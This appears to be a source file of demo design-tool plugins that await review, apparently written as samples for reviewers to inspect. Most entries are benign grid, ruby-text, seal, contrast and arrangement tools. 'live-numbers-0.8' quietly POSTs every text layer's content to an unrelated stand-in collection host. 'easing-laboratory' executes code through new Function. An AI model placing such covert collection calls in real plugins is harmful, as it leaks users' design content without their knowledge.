/** The programs of what waits for review in the demo, by name: what a reviewer reads, and compares with what is live. */
export const HANDED_IN_PROGRAMS: Readonly<Record<string, string>> = {
  'grid-ghost': `const columns = 12;
const gutter = 24;
const margin = 80;
for (const frame of pixso.currentPage.selection) {
  if (frame.type !== 'FRAME') continue;
  const width = (frame.width - margin * 2 - gutter * (columns - 1)) / columns;
  const ghost = pixso.createFrame();
  ghost.name = 'grid ghost';
  ghost.resize(frame.width, frame.height);
  ghost.fills = [];
  ghost.locked = true;
  for (let column = 0; column < columns; column += 1) {
    const bar = pixso.createRectangle();
    bar.resize(width, frame.height);
    bar.x = margin + column * (width + gutter);
    bar.fills = [{ type: 'SOLID', color: { r: 0.95, g: 0.2, b: 0.4 }, opacity: 0.08 }];
    ghost.appendChild(bar);
  }
  frame.appendChild(ghost);
}
pixso.closePlugin();
`,
  furigana: `const readings = new Map([
  ['東京', 'とうきょう'],
  ['設計', 'せっけい'],
  ['図面', 'ずめん'],
  ['余白', 'よはく'],
]);
async function annotate(node) {
  await pixso.loadFontAsync(node.fontName);
  for (const [word, reading] of readings) {
    if (!node.characters.includes(word)) continue;
    const ruby = pixso.createText();
    await pixso.loadFontAsync(ruby.fontName);
    ruby.characters = reading;
    ruby.fontSize = Math.round(node.fontSize / 2);
    ruby.x = node.x + (node.width * node.characters.indexOf(word)) / node.characters.length;
    ruby.y = node.y - ruby.height;
    node.parent.appendChild(ruby);
  }
}
const texts = pixso.currentPage.selection.filter((node) => node.type === 'TEXT');
Promise.all(texts.map(annotate)).then(() => pixso.closePlugin(texts.length + ' 件にルビを付けました'));
`,
  'seal-carver': `const FONTS = 'https://fonts.seal-carver.example/zhuan.json';
async function carve(text) {
  const answer = await fetch(FONTS);
  const outlines = await answer.json();
  const seal = pixso.createFrame();
  seal.name = '印章 / ' + text;
  seal.resize(240, 240);
  seal.cornerRadius = 18;
  seal.fills = [{ type: 'SOLID', color: { r: 0.75, g: 0.12, b: 0.1 } }];
  [...text].slice(0, 4).forEach((character, index) => {
    const glyph = pixso.createVector();
    glyph.vectorPaths = [{ windingRule: 'NONZERO', data: outlines[character] ?? '' }];
    glyph.x = index < 2 ? 126 : 18;
    glyph.y = index % 2 === 0 ? 18 : 126;
    seal.appendChild(glyph);
  });
  pixso.currentPage.selection = [seal];
}
const [named] = pixso.currentPage.selection;
carve(named ? named.name : '方圆').then(() => pixso.closePlugin());
`,
  'easing-laboratory': `const run = new Function('node', 'node.x += 320;');
for (const node of pixso.currentPage.selection) run(node);
pixso.closePlugin('Eased');
`,
  'contrast-compass-2.3': `const linear = (channel) => (channel <= 0.04045 ? channel / 12.92 : ((channel + 0.055) / 1.055) ** 2.4);
const luminance = ({ r, g, b }) => 0.2126 * linear(r) + 0.7152 * linear(g) + 0.0722 * linear(b);
function contrast(front, back) {
  const [high, low] = [luminance(front), luminance(back)].sort((a, b) => b - a);
  return (high + 0.05) / (low + 0.05);
}
/** Levels of WCAG 2.2: large text may have less. */
function levelOf(ratio, isLarge) {
  if (ratio >= (isLarge ? 4.5 : 7)) return 'AAA';
  if (ratio >= (isLarge ? 3 : 4.5)) return 'AA';
  return 'fails';
}
const isLarge = pixso.currentPage.selection.some((node) => node.type === 'TEXT' && node.fontSize >= 24);
const colours = pixso.currentPage.selection.flatMap((node) =>
  'fills' in node ? node.fills.filter((fill) => fill.type === 'SOLID').map((fill) => fill.color) : [],
);
if (colours.length < 2) {
  pixso.closePlugin('Select a text and what lies behind it');
} else {
  const ratio = contrast(colours[0], colours[1]);
  pixso.closePlugin('Contrast ' + ratio.toFixed(2) + ' : 1, ' + levelOf(ratio, isLarge));
}
`,
  'tidy-desk-1.7': `const gap = pixso.clientStorage ? 64 : 80;
/** Left to right, then down, as one reads; frames whose tops differ by less than this are one row. */
const sameRow = 40;
const nodes = [...pixso.currentPage.selection].sort((a, b) =>
  Math.abs(a.y - b.y) < sameRow ? a.x - b.x : a.y - b.y,
);
const columns = Math.ceil(Math.sqrt(nodes.length));
let y = 0;
for (let start = 0; start < nodes.length; start += columns) {
  const row = nodes.slice(start, start + columns);
  let x = 0;
  for (const node of row) {
    node.x = x;
    node.y = y;
    x += node.width + gap;
  }
  y += Math.max(...row.map((node) => node.height)) + gap;
}
pixso.closePlugin(nodes.length + ' layers arranged');
`,
  'live-numbers-0.8': `const texts = pixso.currentPage.findAll((node) => node.type === 'TEXT');
const names = texts.map((node) => node.name + ': ' + node.characters);
fetch('https://collect.live-numbers-stats.example/v1/pages', { method: 'POST', body: JSON.stringify(names) });
async function refresh() {
  const answer = await fetch('https://api.example.com/numbers.json');
  const numbers = await answer.json();
  for (const node of texts) {
    if (!(node.name in numbers)) continue;
    await pixso.loadFontAsync(node.fontName);
    node.characters = String(numbers[node.name]);
  }
  pixso.closePlugin();
}
refresh();
`,
};
